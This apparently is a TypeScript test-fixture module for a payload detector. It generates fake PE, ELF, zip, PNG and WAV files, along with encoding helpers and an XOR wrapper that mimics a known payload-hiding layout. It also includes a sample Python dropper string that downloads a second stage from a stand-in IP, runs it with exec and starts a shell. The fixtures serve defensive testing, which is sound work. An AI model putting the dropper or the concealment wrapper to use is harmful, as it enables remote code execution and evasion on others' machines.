import zlib from 'node:zlib';
import { wav as pcmWav } from './pcm.js';

/** Builders for fake executables and wrapped payloads. Everything is generated; nothing here is a real binary. */

export const bytes = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, 'latin1'));
export const utf8 = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, 'utf8'));
export const text = (d: Uint8Array): string => Buffer.from(d).toString('latin1');

/** Deterministic pseudo-random bytes (xorshift), so fixtures are the same on every run. */
export function prng(n: number, seed = 1): Uint8Array {
  const out = new Uint8Array(n);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

/**
 * A fake PE: the standard DOS header and stub, `PE\0\0` at e_lfanew, a COFF header for x86-64, then `size - 0x100`
 * bytes of section-like content (zeros with some structure, like real code sections).
 */
export function fakePE(size = 4096, seed = 7): Uint8Array {
  const d = new Uint8Array(Math.max(size, 0x200));
  d.set([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00, 0xb8]);
  d[0x18] = 0x40;
  d[0x3c] = 0x80;
  d.set(bytes('\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$'), 0x40);
  d.set(bytes('PE\0\0'), 0x80);
  d[0x84] = 0x64; // machine 0x8664
  d[0x85] = 0x86;
  d[0x86] = 2; // sections
  d[0x94] = 0xf0; // optional header size
  d[0x96] = 0x22; // characteristics
  d.set(bytes('.text\0\0\0'), 0x188);
  d.set(bytes('.data\0\0\0'), 0x1b0);
  // code-ish bytes with plenty of zeros, like a real section
  const r = prng(d.length, seed);
  for (let i = 0x400; i < d.length; i++) d[i] = r[i] < 0x60 ? r[(i * 7) % r.length] : 0;
  return d;
}

/** A fake 64-bit little-endian ELF executable for x86-64. */
export function fakeELF(size = 2048, seed = 9): Uint8Array {
  const d = new Uint8Array(Math.max(size, 0x100));
  d.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
  d[16] = 2; // ET_EXEC
  d[18] = 0x3e; // x86-64
  d[20] = 1; // version
  d[52] = 64; // header size
  const r = prng(d.length, seed);
  for (let i = 0x100; i < d.length; i++) d[i] = r[i] < 0x50 ? r[i] : 0;
  return d;
}

/** A fake zip: one stored member. */
export function fakeZip(name = 'a.txt', content = 'hello'): Uint8Array {
  const n = bytes(name);
  const c = bytes(content);
  const h = new Uint8Array(30 + n.length + c.length);
  h.set(bytes('PK\x03\x04\x14\x00'));
  h[26] = n.length;
  h[18] = h[22] = c.length;
  h.set(n, 30);
  h.set(c, 30 + n.length);
  return h;
}

/** A tiny valid PNG header (signature + IHDR), enough for magic detection. */
export function fakePNG(extra: Uint8Array = new Uint8Array(0)): Uint8Array {
  const head = bytes('\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0\x1f\xf3\xff\x61');
  const out = new Uint8Array(head.length + extra.length);
  out.set(head);
  out.set(extra, head.length);
  return out;
}

export function xor(data: Uint8Array, key: Uint8Array): Uint8Array {
  const out = new Uint8Array(data.length);
  for (let i = 0; i < data.length; i++) out[i] = data[i] ^ key[i % key.length];
  return out;
}

/** The telnyx layout: an 8-byte key, then the content XOR-ed with it. */
export function telnyx(data: Uint8Array, key = bytes('\x4b\x1f\x9a\x03\xe2\x5c\x71\xd8')): Uint8Array {
  const out = new Uint8Array(8 + data.length);
  out.set(key);
  out.set(xor(data, key), 8);
  return out;
}

export const b64 = (d: Uint8Array): string => Buffer.from(d).toString('base64');
export const b64url = (d: Uint8Array): string => Buffer.from(d).toString('base64url');
export const hex = (d: Uint8Array): string => Buffer.from(d).toString('hex');
export const zlibbed = (d: Uint8Array): Uint8Array => new Uint8Array(zlib.deflateSync(d));
export const gzipped = (d: Uint8Array): Uint8Array => new Uint8Array(zlib.gzipSync(d));
export const deflated = (d: Uint8Array): Uint8Array => new Uint8Array(zlib.deflateRawSync(d));

/** Base32 (RFC 4648), padded. */
export function b32(d: Uint8Array): string {
  const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let out = '';
  let acc = 0;
  let bits = 0;
  for (const b of d) {
    acc = (acc << 8) | b;
    bits += 8;
    while (bits >= 5) {
      bits -= 5;
      out += A[(acc >> bits) & 31];
    }
    acc &= 0xff;
  }
  if (bits > 0) out += A[(acc << (5 - bits)) & 31];
  while (out.length % 8) out += '=';
  return out;
}

/** Wrap text at `width` columns, like `base64 -w 76`. */
export function wrap(s: string, width = 76, nl = '\n'): string {
  const lines: string[] = [];
  for (let i = 0; i < s.length; i += width) lines.push(s.slice(i, i + width));
  return lines.join(nl);
}

export function concat(...parts: Array<Uint8Array | string>): Uint8Array {
  const bs = parts.map((p) => (typeof p === 'string' ? bytes(p) : p));
  const out = new Uint8Array(bs.reduce((a, b) => a + b.length, 0));
  let o = 0;
  for (const b of bs) {
    out.set(b, o);
    o += b.length;
  }
  return out;
}

/** A minimal PCM WAV whose data chunk is `data` (optionally followed by `trailing` bytes after the RIFF). */
export function wav(data: Uint8Array, trailing: Uint8Array = new Uint8Array(0)): Uint8Array {
  return pcmWav(data, 8000, trailing);
}

/** Smooth 16-bit PCM samples (a sine), as real audio would be. */
export function sine(samples = 4000, freq = 440, rate = 8000): Uint8Array {
  const out = new Uint8Array(samples * 2);
  const v = new DataView(out.buffer);
  for (let i = 0; i < samples; i++) v.setInt16(i * 2, Math.round(Math.sin((2 * Math.PI * freq * i) / rate) * 12000), true);
  return out;
}

/** A Python dropper: fetches and runs a second stage. */
export const DROPPER_PY =
  "import os, subprocess, base64\nimport urllib.request\n" +
  "u = 'http://203.0.113.7/stage2.bin'\n" +
  "data = urllib.request.urlopen(u).read()\n" +
  "exec(base64.b64decode(data))\n" +
  "subprocess.Popen(['/bin/sh', '-c', 'id'])\n";

/** Ordinary Python: no exec, no network, no processes. */
export const PLAIN_PY = "import math\n\ndef area(r):\n    return math.pi * r * r\n\nprint(area(2))\n";
